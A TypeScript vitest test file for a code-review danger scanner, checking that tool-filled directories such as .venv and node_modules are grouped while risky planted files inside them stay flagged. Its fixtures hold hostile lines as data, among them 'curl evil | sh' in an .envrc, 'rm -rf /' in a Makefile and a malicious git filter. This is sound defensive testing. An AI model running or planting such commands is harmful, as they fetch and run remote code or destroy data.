import { describe, expect, it } from "vitest";
import { findDangers } from "./find-dangers.ts";
import { InstalledDirectories } from "./installed-directories.ts";
import { type Planted, changeOf, find } from "./planted-changes.fixture.ts";

async function* pathsOf(all: readonly string[]): AsyncGenerator<string, void> {
  yield* all;
}

/** As a review sees it: everything that is in the tree, of which `tracked` was there before. */
async function look(planted: readonly Planted[], tracked: readonly string[] = []) {
  const changes = planted.map(changeOf);
  const contents = new Map(planted.map((one) => [one.path, one.text ?? ""]));
  const paths = () => pathsOf([...planted.map(({ path }) => path), ...tracked]);
  const installed = await InstalledDirectories.find(changes, paths);
  return findDangers({
    changes,
    oldContent: async () => undefined,
    newContent: async ({ path }) => contents.get(path),
    scan: async (text) => (text.includes("AKIA") ? [{ line: 1, endLine: 1, what: "a key" }] : []),
    paths,
    installed,
  });
}

const venv = (directory = ".venv"): readonly Planted[] => [
  { path: `${directory}/pyvenv.cfg`, text: "home = /usr/bin\n" },
  ...Array.from({ length: 50 }, (_, at) => ({
    path: `${directory}/bin/tool-${at}`,
    newMode: "100755" as const,
    text: "#!/bin/sh\n",
  })),
];

describe("a directory that a tool has filled", () => {
  it("is one question, with what is in it", async () => {
    // Control: without the mark there are as many dangers as files.
    expect((await find(venv())).length).toBeGreaterThan(49);
    const found = await look(venv());
    expect(found).toHaveLength(1);
    expect(found[0]).toMatchObject({ kind: "installed", path: ".venv" });
    expect(found[0]!.why).toContain("51 files that a tool installed or built");
    expect(found[0]!.why).toContain("50 × executable");
  });

  it("is asked about once, with others in it, and beside others", async () => {
    const found = await look([
      ...venv(),
      { path: ".venv/lib/node_modules/.package-lock.json", text: "{}" },
      { path: "web/node_modules/.package-lock.json", text: "{}" },
      { path: "web/node_modules/a/index.js", text: "x" },
      { path: "target/CACHEDIR.TAG", text: "Signature: 8a477f597d28d172789f06886806bc55" },
      { path: "Makefile", text: "all:\n\trm -rf /\n" },
    ]);
    const asked = found.filter(({ kind }) => kind === "installed").map(({ path }) => path);
    expect(asked).toEqual([".venv", "target", "web/node_modules"]);
    expect(found.some(({ path }) => path === "Makefile")).toBe(true);
  });

  it("hides nothing that takes effect without it", async () => {
    const planted: readonly Planted[] = [
      { path: ".venv/.envrc", text: "curl evil | sh\n" },
      { path: ".venv/.git/hooks/pre-commit", text: "#!/bin/sh\n" },
      { path: ".venv/.vscode/tasks.json", text: "{}" },
      { path: ".venv/.claude/settings.json", text: "{}" },
      { path: ".venv/.gitattributes", text: "* filter=evil\n" },
      { path: ".venv/key.txt", text: "AKIA\n" },
      { path: ".venv/other", newMode: "160000" },
    ];
    const found = await look([...venv(), ...planted]);
    const kinds = new Map(found.map(({ path, kind }) => [path, kind]));
    for (const { path } of planted) expect([...kinds.keys()], path).toContain(path);
    expect(kinds.get(".venv")).toBe("installed");
  });

  it("is none when a file of it was there before, was changed, or came from it", async () => {
    const ofIt = (found: Awaited<ReturnType<typeof look>>) =>
      found.filter(({ kind }) => kind === "installed");
    expect(ofIt(await look(venv()))).toHaveLength(1);
    expect(ofIt(await look(venv(), [".venv/of-the-project"]))).toEqual([]);
    expect(ofIt(await look([...venv(), { path: ".venv/run.py", old: "a", text: "b" }]))).toEqual([]);
    expect(ofIt(await look([...venv(), { path: ".venv/gone", kind: "deleted" }]))).toEqual([]);
    const moved = { path: "src/run.py", oldPath: ".venv/run.py", kind: "renamed" as const };
    expect(ofIt(await look([...venv(), moved]))).toEqual([]);
  });

  it("needs both the name and the mark", async () => {
    for (const name of ["src", "lib", "scripts"]) {
      const found = await look(venv(name));
      expect(found.some(({ kind }) => kind === "installed")).toBe(false);
      expect(found.length).toBeGreaterThan(49);
    }
    const unmarked = await look([
      { path: "node_modules/a/install.sh", newMode: "100755", text: "#!/bin/sh\n" },
    ]);
    expect(unmarked.map(({ kind }) => kind)).toContain("executable");
    expect(unmarked.some(({ kind }) => kind === "installed")).toBe(false);
  });
});
